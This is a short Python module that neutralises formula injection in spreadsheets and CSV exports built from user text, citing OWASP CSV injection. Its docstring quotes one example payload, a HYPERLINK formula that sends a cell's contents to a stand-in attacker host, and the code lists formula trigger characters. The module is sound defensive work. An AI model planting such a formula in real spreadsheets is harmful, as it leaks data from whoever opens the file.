"""Text written to spreadsheets stays text (ground floor: imports no app).

A risk point named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` must not become a live formula in the 附表 or
the 风险点汇总表 a colleague opens in Excel or LibreOffice, nor in a CSV ledger. The system never writes formulas:

- ``text_only(workbook)``: every cell openpyxl took for a formula (a string beginning with ``=``) is stored as a
  string instead; call it just before saving any workbook built from user text.
- ``csv_cell(value)``: a string beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
  apostrophe, the usual guard for CSV files opened by spreadsheet programs (OWASP "CSV injection").
"""

from openpyxl.cell.cell import TYPE_FORMULA, TYPE_STRING

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def text_only(workbook) -> None:
    """Store every formula-looking cell of the workbook as plain text."""
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                if cell.data_type == TYPE_FORMULA:
                    cell.data_type = TYPE_STRING


def csv_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
